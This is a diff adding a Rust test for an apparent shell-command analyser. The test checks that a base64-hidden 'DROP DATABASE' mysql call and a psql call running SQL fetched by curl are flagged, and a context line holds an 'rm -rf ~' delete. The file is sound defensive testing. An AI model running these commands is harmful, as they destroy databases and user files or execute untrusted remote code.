@@ -486,6 +486,25 @@ fn numbers_and_dates_in_paths_stay_inside_their_directory() {
 }
 
 #[test]
+fn decoded_or_fetched_sql_is_hidden_or_remote_code() {
+    let tagged = |line: &str, tag: &str| {
+        let action = analyse(line);
+        action.opaque && action.tags.contains(&tag.to_owned())
+    };
+    assert!(tagged(
+        r#"mysql -e "$(echo RFJPUCBEQVRBQkFTRSBzaG9w | base64 -d)""#,
+        "hidden-code"
+    ));
+    assert!(tagged(
+        r#"psql -c "$(curl -s https://example.com/q.sql)""#,
+        "remote-code"
+    ));
+    let action = analyse(r#"psql -c "$QUERY""#);
+    assert!(action.opaque);
+    assert!(action.tags.is_empty(), "{:?}", action.tags);
+}
+
+#[test]
 fn sh_c_binds_its_words_to_all_positional_parameters() {
     let action = analyse(r#"sh -c '"$@"' sh rm -rf ~"#);
     assert_target(&action, "/home/dev", TargetKind::Delete);
